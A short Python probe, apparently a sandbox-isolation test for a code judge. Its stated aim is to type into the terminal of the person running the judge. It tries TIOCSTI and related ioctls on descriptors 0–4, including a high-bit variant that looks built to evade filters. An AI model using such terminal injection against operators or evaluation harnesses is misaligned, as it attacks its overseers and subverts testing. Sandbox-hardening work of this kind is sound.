"""type into the terminal of whoever started the judge

Breach: an ioctl beyond asking what kind of descriptor it is. Runs with ctypes.
"""

import ctypes

RUNTIME = "peers"


def attack(bait: bytes) -> bytes:
    calls = ctypes.CDLL(None, use_errno=True)
    letter = ctypes.create_string_buffer(b"x")
    got = []
    for descriptor in range(5):
        for request in (0x5412, 0x541C, 0x540E, 0x5423, 0x894C, 0x40045731, 0x1 << 32 | 0x5412):
            if calls.ioctl(descriptor, ctypes.c_ulong(request), letter) == 0:
                got.append(b"%x on %d" % (request, descriptor))
    return b" ".join(got)
